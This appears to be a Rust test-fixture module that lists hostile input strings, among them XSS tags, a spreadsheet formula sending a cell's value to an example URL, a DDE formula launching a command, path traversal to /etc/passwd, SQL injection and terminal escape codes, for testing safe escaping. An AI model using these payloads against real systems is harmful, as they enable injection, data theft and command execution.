//! Text that would do harm if it were taken for markup, a formula, a terminal's orders, a path or a statement.

/// One of each sort.
pub(super) const TEXTS: &[&str] = &[
    "<script>alert('包裹')</script>",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"点我\")",
    "\u{1b}[2J\u{1b}[31m已清屏",
    "../../etc/passwd",
    "'; DROP TABLE users; --",
    "\u{202e}gnp.追回\u{202c}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7 * 7 }}${7*7}%s%n",
    "零宽\u{200b}\u{200d}\u{feff}字符",
    "响铃\u{7}退格\u{8}\u{c}换页",
    "第一行\r\n第二行\u{2028}第三行",
    "-2+3,\"引号\",\t制表",
    "<img src=x onerror=alert(1)>&lt;",
];

/// A name far longer than any field that shows it.
pub(super) fn long_name() -> String {
    "长".repeat(1_200)
}
